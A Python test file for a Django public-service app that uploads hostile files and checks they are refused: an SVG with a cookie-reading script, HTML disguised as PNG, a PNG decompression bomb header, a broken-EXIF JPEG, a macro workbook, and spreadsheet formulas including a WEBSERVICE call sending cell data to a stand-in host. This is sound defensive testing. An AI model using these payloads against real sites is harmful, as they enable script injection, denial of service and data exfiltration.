"""Hostile uploads through the real views, as the role that uploads them: files that lie about
their type (by their name or by their bytes), an SVG carrying a script, images with broken
metadata or claiming billions of pixels, files over the limit, and workbooks with macros,
formulas or links to other files for the catalog import. Each is refused with a Chinese message
and nothing is stored, or (an image with broken EXIF) kept exactly as uploaded — never a 500.

Decisions: SVG is never taken (scans, material photos and agents' photos are JPG or PNG, and
PDF for scans): a refusal is simpler and safer than sanitising. The catalog import never takes
a formula, not even its cached result (it may differ from what Excel shows, or be absent): each
formula cell is a problem naming the cell. A macro-enabled workbook is refused whatever its
name."""

import html
import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from PIL import Image

from bangban.cases.models import Case, CasePhoto
from bangban.cases.workflow import State
from bangban.catalog import excel
from bangban.catalog.models import ImportJob, Item
from bangban.documents.models import Kind, SignedScan
from bangban.documents.services import document_generate
from bangban.org.models import Agent, Role
from tests.catalog.conftest import catalog_admin, county_with_departments, jobs_inline
from tests.documents.conftest import make, world
from tests.factories import UserFactory, county_tree
from tests.portal import public_helpers
from tests.portal.public_helpers import ID_NUMBER, make_world, verified

pytestmark = pytest.mark.django_db
# Fixtures of other packages, used here by name.
sms = public_helpers.sms
__all__ = ["catalog_admin", "county_with_departments", "jobs_inline", "sms", "world"]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    """Uploads and generated files go to a throwaway media root."""
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.BANGBAN_PUBLIC_URL = "https://bangban.example.gov.cn"


# The catalog workbook's column of item names.
NAME_HEADER = "业务办理项目名称"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
)
HTML_PAGE = b"<!doctype html><html><body><script>alert(1)</script></body></html>"


def image_bytes(fmt: str, size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "white").save(buffer, format=fmt)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A real 1×1 PNG whose header (with a correct CRC) claims width × height pixels: what a
    decompression bomb looks like to the first reader."""
    data = bytearray(image_bytes("PNG", (1, 1)))
    ihdr = bytes(data[12:16]) + struct.pack(">II", width, height) + bytes(data[24:29])
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(ihdr) & 0xFFFFFFFF)
    return bytes(data)


def jpeg_with_broken_exif() -> bytes:
    """A real JPEG with an APP1 Exif segment whose TIFF header and IFD are garbage."""
    jpeg = image_bytes("JPEG")
    garbage = b"Exif\x00\x00" + b"MM\x00\x2a\xff\xff\xff\xf0" + b"\xde\xad" * 40
    segment = b"\xff\xe1" + struct.pack(">H", len(garbage) + 2) + garbage
    return jpeg[:2] + segment + jpeg[2:]


def chinese(text: str) -> bool:
    return re.search(r"[\u4e00-\u9fff]", text) is not None


# Signed scans (documents) ---------------------------------------------------------------------


@pytest.fixture
def printed(world):
    case = make(world, State.ACCEPTED)
    document = document_generate(actor=world["agent"], case=case, kind=Kind.ACCEPTANCE_RECEIPT)
    with document.file.open("rb") as f:
        return case, document, f.read()


def scan_upload(client, document, name: str, content: bytes):
    return client.post(
        reverse("documents:scan-upload", args=[document.pk]),
        {"file": SimpleUploadedFile(name, content)},
        follow=True,
    )


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("签字.pdf", lambda pdf: image_bytes("PNG"), "文件名与其内容不符"),
        ("签字.jpg", lambda pdf: pdf, "文件名与其内容不符"),
        ("签字.png", lambda pdf: HTML_PAGE, "PDF、JPG、PNG"),
        ("签字.svg", lambda pdf: SVG_WITH_SCRIPT, "PDF、JPG、PNG"),
        ("签字.png", lambda pdf: SVG_WITH_SCRIPT, "PDF、JPG、PNG"),
        ("炸弹.png", lambda pdf: png_claiming(60_000, 60_000), "无法读取"),
        ("炸弹.png", lambda pdf: png_claiming(10_000, 10_000), "无法读取"),
    ],
    ids=["png-as-pdf", "pdf-as-jpg", "html-as-png", "svg", "svg-as-png", "bomb", "near-bomb"],
)
def test_a_scan_that_lies_about_itself_is_refused(world, client, printed, name, content, says):
    _case, document, pdf = printed
    client.force_login(world["agent"])
    response = scan_upload(client, document, name, content(pdf))
    assert response.status_code in (200, 400)
    page = response.content.decode()
    assert says in page, page[:3000]
    assert not SignedScan.objects.exists()


def test_a_scan_over_the_limit_is_refused_by_size(world, client, printed, settings):
    settings.BANGBAN_SCAN_MAX_MB = 1
    _case, document, pdf = printed
    big = pdf[:-6] + b" " * (1024 * 1024) + pdf[-6:]  # still a whole PDF, just large
    client.force_login(world["agent"])
    page = scan_upload(client, document, "大扫描.pdf", big).content.decode()
    assert "文件超过1 MB" in page
    assert not SignedScan.objects.exists()


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")  # Pillow, reading it
def test_a_jpeg_with_broken_exif_is_kept_exactly_as_uploaded(world, client, printed):
    case, document, _pdf = printed
    content = jpeg_with_broken_exif()
    client.force_login(world["agent"])
    response = scan_upload(client, document, "签字.jpg", content)
    assert response.status_code == 200
    scan = SignedScan.objects.get(document=document)
    assert scan.content_type == "image/jpeg" and scan.size == len(content)
    opened = client.get(reverse("documents:scan", args=[scan.pk]))
    assert b"".join(opened.streaming_content) == content
    assert client.get(reverse("cases:detail", args=[case.pk])).status_code == 200


# Material photos of an online application (public portal) ------------------------------------


def apply_with(client, photo: SimpleUploadedFile):
    return client.post(
        reverse("portal-apply-details"),
        {"applicant_name": "张秀英", "id_number": ID_NUMBER, "kind": "assist", "photos": [photo]},
    )


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("户口簿.png", HTML_PAGE, "户口簿.png 不是 JPG 或 PNG 照片"),
        ("户口簿.svg", SVG_WITH_SCRIPT, "户口簿.svg 不是 JPG 或 PNG 照片"),
        ("户口簿.jpg", SVG_WITH_SCRIPT, "户口簿.jpg 不是 JPG 或 PNG 照片"),
        ("户口簿.pdf", b"%PDF-1.7\n%%EOF\n", "户口簿.pdf 不是 JPG 或 PNG 照片"),
        ("户口簿.png", png_claiming(60_000, 60_000), "照片 户口簿.png 无法读取"),
    ],
    ids=["html-as-png", "svg", "svg-as-jpg", "pdf", "bomb"],
)
def test_a_portal_photo_that_is_not_a_photo_is_refused(
    client, sms, django_capture_on_commit_callbacks, name, content, says
):
    world = make_world()
    verified(client, world, sms, django_capture_on_commit_callbacks)
    response = apply_with(client, SimpleUploadedFile(name, content))
    assert response.status_code == 400
    page = response.content.decode()
    assert re.sub(r"\s+", " ", says) in re.sub(r"\s+", " ", page), page[:3000]
    assert not Case.objects.exists() and not CasePhoto.objects.exists()


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")  # Pillow, reading it
def test_portal_photos_over_the_limit_and_renamed_photos(
    client, sms, django_capture_on_commit_callbacks, settings
):
    settings.BANGBAN_PORTAL_PHOTO_MAX_MB = 1
    world = make_world()
    verified(client, world, sms, django_capture_on_commit_callbacks)
    big = image_bytes("PNG") + b"\x00" * (1024 * 1024)
    response = apply_with(client, SimpleUploadedFile("户口簿.png", big))
    assert response.status_code == 400 and "超过 1 MB" in response.content.decode()
    assert not Case.objects.exists()
    # A JPEG named .png is what it is: kept whole, stored as a JPEG under a name of ours.
    content = jpeg_with_broken_exif()
    with django_capture_on_commit_callbacks(execute=True):
        response = apply_with(client, SimpleUploadedFile("户口簿.png", content))
    assert response.status_code == 302, response.content.decode()[:2000]
    photo = CasePhoto.objects.get()
    assert photo.content_type == "image/jpeg" and photo.file.name.endswith(".jpg")
    with photo.file.open("rb") as f:
        assert f.read() == content


# Agents' photos (admin), published on the public roster ---------------------------------------


def agent_form(agent) -> dict:
    """The admin's change form of an agent as it stands (the photo is the test's)."""
    return {
        "name": agent.name,
        "id_number": agent.id_number,
        "phone": agent.phone,
        "public_phone": agent.public_phone,
        "email": "",
        "employment": agent.employment,
        "service_kind": agent.service_kind,
        "post": agent.post,
        "service_hours": agent.service_hours,
        "on_duty": "on",
    }


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("照片.svg", SVG_WITH_SCRIPT),
        ("照片.png", HTML_PAGE),
        ("照片.png", png_claiming(60_000, 60_000)),
        ("照片.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    ],
    ids=["svg", "html-as-png", "bomb", "gif"],
)
def test_an_agents_photo_must_be_a_real_jpg_or_png(client, settings, tmp_path, name, content):
    settings.MEDIA_ROOT = tmp_path / "media"
    tree = county_tree()
    admin = UserFactory(unit=tree["county"], role=Role.CENTRE_ADMIN, is_staff=True)
    agent = tree["agents"]["C1-1"]
    client.force_login(admin)
    data = agent_form(agent) | {"photo": SimpleUploadedFile(name, content)}
    response = client.post(reverse("admin:org_agent_change", args=[agent.pk]), data)
    assert response.status_code == 200  # the form again, with its error
    assert "errorlist" in response.content.decode()
    assert not Agent.objects.get(pk=agent.pk).photo


def test_an_agents_photo_over_the_limit_is_refused(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.BANGBAN_PORTAL_PHOTO_MAX_MB = 1
    tree = county_tree()
    admin = UserFactory(unit=tree["county"], role=Role.CENTRE_ADMIN, is_staff=True)
    agent = tree["agents"]["C1-1"]
    client.force_login(admin)
    data = agent_form(agent)
    big = image_bytes("PNG") + b"\x00" * (1024 * 1024)
    url = reverse("admin:org_agent_change", args=[agent.pk])
    response = client.post(url, data | {"photo": SimpleUploadedFile("照片.png", big)})
    assert response.status_code == 200 and "超过 1 MB" in response.content.decode()
    assert not Agent.objects.get(pk=agent.pk).photo
    # A real, small photo is taken (the check refuses what it should, not everything).
    small = SimpleUploadedFile("照片.png", image_bytes("PNG"))
    response = client.post(url, data | {"photo": small})
    assert response.status_code == 302, response.content.decode()[:2000]
    assert Agent.objects.get(pk=agent.pk).photo


# Catalog import workbooks ---------------------------------------------------------------------


@pytest.fixture
def admin_client(client, catalog_admin, jobs_inline):
    client.force_login(catalog_admin)
    return client


@pytest.fixture
def catalog_book(catalog_admin, county_with_departments) -> bytes:
    """The exported catalog of one item: a workbook the import takes back unchanged."""
    from tests.cases.factories import item_of

    item_of(county_with_departments["dept"], actor=catalog_admin, name="食品经营许可", limit_days=5)
    out = io.BytesIO()
    excel.catalog_export(out)
    return out.getvalue()


def import_upload(client, content: bytes, name: str, callbacks):
    with callbacks(execute=True):
        response = client.post(
            reverse("catalog-import"),
            {"file": SimpleUploadedFile(name, content, content_type=excel.XLSX_CONTENT_TYPE)},
        )
    return response


def with_macros(content: bytes) -> bytes:
    """The workbook with a VBA project added and its parts declared macro-enabled."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
                ).replace(
                    b"<Default ",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                    b'vbaProject"/><Default ',
                    1,
                )
            target.writestr(info, data)
        target.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 512)
    return out.getvalue()


def test_a_macro_workbook_is_refused_by_name_and_by_content(
    admin_client, catalog_book, django_capture_on_commit_callbacks
):
    macros = with_macros(catalog_book)
    response = import_upload(admin_client, macros, "事项.xlsm", django_capture_on_commit_callbacks)
    assert response.status_code == 400
    assert "请选择 Excel 工作簿（.xlsx）文件。" in response.content.decode()
    assert not ImportJob.objects.exists()
    # Renamed to .xlsx it is stored, and its import refuses it without reading a cell.
    response = import_upload(admin_client, macros, "事项.xlsx", django_capture_on_commit_callbacks)
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.FAILED
    page = admin_client.get(response["Location"]).content.decode()
    assert excel._(
        "The workbook contains macros (.xlsm), which are never run or imported: "
        "save it as an Excel workbook (.xlsx) without macros."
    ) in html.unescape(page)


@pytest.mark.parametrize(
    ("formula", "shown"),
    [
        ('=HYPERLINK("http://x.example","点我")', "HYPERLINK"),
        ("='[外部.xlsx]Sheet1'!A1", "外部.xlsx"),
        ('=WEBSERVICE("http://x.example/?"&A2)', "WEBSERVICE"),
    ],
    ids=["hyperlink", "external-link", "webservice"],
)
def test_a_formula_in_the_catalog_workbook_is_a_problem_naming_its_cell(
    admin_client, catalog_book, django_capture_on_commit_callbacks, formula, shown
):
    book = load_workbook(io.BytesIO(catalog_book))
    headers = [c.value for c in book["事项"][1]]
    column = headers.index(NAME_HEADER) + 1
    cell = book["事项"].cell(row=2, column=column)
    cell.value = formula
    assert cell.data_type == "f"
    out = io.BytesIO()
    book.save(out)
    before = list(Item.objects.values_list("name", "version"))
    response = import_upload(
        admin_client, out.getvalue(), "事项.xlsx", django_capture_on_commit_callbacks
    )
    job = ImportJob.objects.get()
    assert job.status == ImportJob.Status.FAILED
    page = admin_client.get(response["Location"]).content.decode()
    message = excel._(
        "Cell %(cell)s holds a formula (%(formula)s); the import takes values only: copy the "
        "cells and paste them as values."
    ) % {"cell": f"{cell.column_letter}2", "formula": formula}
    assert message in html.unescape(page), page[:4000]
    assert shown in html.unescape(page)
    assert list(Item.objects.values_list("name", "version")) == before


def test_text_that_looks_like_a_formula_round_trips_as_text(
    admin_client, catalog_book, django_capture_on_commit_callbacks
):
    """Text beginning with = typed as text (a string cell) is data, not a formula: it imports
    as the same text, and exports again as a string cell."""
    book = load_workbook(io.BytesIO(catalog_book))
    headers = [c.value for c in book["事项"][1]]
    cell = book["事项"].cell(row=2, column=headers.index(NAME_HEADER) + 1)
    cell.value = "=食品经营许可"
    cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    import_upload(admin_client, out.getvalue(), "事项.xlsx", django_capture_on_commit_callbacks)
    assert ImportJob.objects.get().status == ImportJob.Status.SUCCEEDED
    assert Item.objects.filter(name="=食品经营许可").exists()
    exported = io.BytesIO()
    excel.catalog_export(exported)
    sheet = load_workbook(io.BytesIO(exported.getvalue()))["事项"]
    names = [c for c in sheet[get_letter(headers, NAME_HEADER)] if c.value == "=食品经营许可"]
    assert names and all(c.data_type == "s" for c in names)


def get_letter(headers: list, header: str) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(headers.index(header) + 1)


def test_not_a_workbook_at_all(admin_client, django_capture_on_commit_callbacks):
    """An HTML page or an SVG renamed .xlsx is stored and then refused as not a workbook."""
    for content in (HTML_PAGE, SVG_WITH_SCRIPT, b"PK\x03\x04broken"):
        response = import_upload(
            admin_client, content, "事项.xlsx", django_capture_on_commit_callbacks
        )
        page = admin_client.get(response["Location"]).content.decode()
        assert "文件不是有效的 Excel 工作簿（.xlsx）。" in page
    assert ImportJob.objects.filter(status=ImportJob.Status.FAILED).count() == 3
